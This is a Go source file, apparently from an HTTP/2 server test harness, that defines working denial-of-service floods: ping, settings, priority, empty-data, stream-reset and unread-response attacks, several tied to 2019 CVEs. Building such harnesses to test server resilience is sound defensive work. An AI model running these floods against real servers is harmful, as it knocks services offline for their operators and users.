package attacks

import (
	"golang.org/x/net/http2"
)

// deaf is a connection whose client does not read.
var deaf = Opening{Deaf: true}

// floods are the attacks with frames that cost the client nothing.
var floods = []Attack{
	{Name: "ping flood", CVE: "CVE-2019-9512", Run: func(a *Attacker) {
		a.spread(4, manyFrames, Opening{}, func(c *Conn, i int) { c.raw(http2.FramePing, 0, 0, make([]byte, 8)) })
	}},
	{Name: "ping flood, nothing is read", CVE: "CVE-2019-9512", Run: func(a *Attacker) {
		a.pour(manyConns, func(c *Conn) { c.raw(http2.FramePing, 0, 0, make([]byte, 8)) })
	}},
	{Name: "settings flood", CVE: "CVE-2019-9515", Run: func(a *Attacker) {
		a.spread(4, manyFrames, Opening{}, func(c *Conn, i int) { c.raw(http2.FrameSettings, 0, 0, nil) })
	}},
	{Name: "settings flood, nothing is read", CVE: "CVE-2019-9515", Run: func(a *Attacker) {
		a.pour(manyConns, func(c *Conn) { c.raw(http2.FrameSettings, 0, 0, nil) })
	}},
	{Name: "many settings in a frame", Run: func(a *Attacker) {
		payload := make([]byte, 0, 16380)
		for len(payload) < 16380 {
			payload = append(payload, 0, byte(http2.SettingHeaderTableSize), 0, 0, byte(len(payload)), 0)
		}
		a.spread(2, manyFrames/20, Opening{}, func(c *Conn, i int) { c.raw(http2.FrameSettings, 0, 0, payload) })
	}},
	{Name: "empty frames of a body", CVE: "CVE-2019-9518", Run: func(a *Attacker) {
		a.spread(4, manyFrames, Opening{}, func(c *Conn, i int) {
			if i == 0 {
				c.head(stream(0), false, pathRead)
			}
			c.raw(http2.FrameData, 0, stream(0), nil)
		})
	}},
	{Name: "padding of a body", Run: func(a *Attacker) {
		padding := make([]byte, 256)
		padding[0] = 255
		a.spread(2, 3000, Opening{}, func(c *Conn, i int) {
			if i == 0 {
				c.head(stream(0), false, pathRead)
			}
			c.raw(http2.FrameData, http2.FlagDataPadded, stream(0), padding)
		})
	}},
	{Name: "priority flood", CVE: "CVE-2019-9513", Run: func(a *Attacker) {
		a.spread(4, manyFrames, Opening{}, func(c *Conn, i int) {
			_ = c.WritePriority(stream(i%1000+1), http2.PriorityParam{StreamDep: stream(i % 1000), Weight: byte(i)})
			c.sent()
		})
	}},
	{Name: "frames of unknown types", Run: func(a *Attacker) {
		a.spread(4, manyFrames, Opening{}, func(c *Conn, i int) { c.raw(0xbe, 0, 0, make([]byte, 8)) })
	}},
	{Name: "resets of streams that never were", Run: func(a *Attacker) {
		a.spread(4, manyFrames/10, Opening{}, func(c *Conn, i int) {
			c.head(stream(0), true, sized(1))
			_ = c.WriteRSTStream(stream(0), http2.ErrCodeCancel)
			c.sent()
		})
	}},
	{Name: "requests whose answers are not read", CVE: "CVE-2019-9517", Run: func(a *Attacker) {
		wide := Opening{Deaf: true, Settings: []http2.Setting{window(1<<31 - 1)}}
		for range 4 {
			c := a.open(wide)
			if c == nil {
				continue
			}
			_ = c.WriteWindowUpdate(0, 1<<31-1-65535)
			for i := range manyStreams {
				c.head(stream(i), true, sized(30_000))
			}
			c.flush()
		}
	}},
	{Name: "answers much larger than their requests", Run: func(a *Attacker) {
		wide := Opening{Settings: []http2.Setting{window(1<<31 - 1)}}
		a.spread(4, 500, wide, func(c *Conn, i int) {
			if i == 0 {
				_ = c.WriteWindowUpdate(0, 1<<31-1-65535)
			}
			c.head(stream(i), true, sized(30_000))
			if i%50 == 49 {
				c.settle()
			}
		})
	}},
	{Name: "requests one after the other, not authenticated", Run: func(a *Attacker) {
		a.spread(4, 1000, Opening{}, func(c *Conn, i int) {
			c.head(stream(i), true, pathAnonymous)
			if i%50 == 49 {
				c.settle()
			}
		})
	}},
}

// pour sends frames that the server has to answer, and reads none of the answers.
func (a *Attacker) pour(conns int, frame func(c *Conn)) {
	for range conns {
		c := a.open(deaf)
		for i := 0; c != nil && i < 4*manyFrames && !c.over(); i++ {
			frame(c)
		}
	}
}
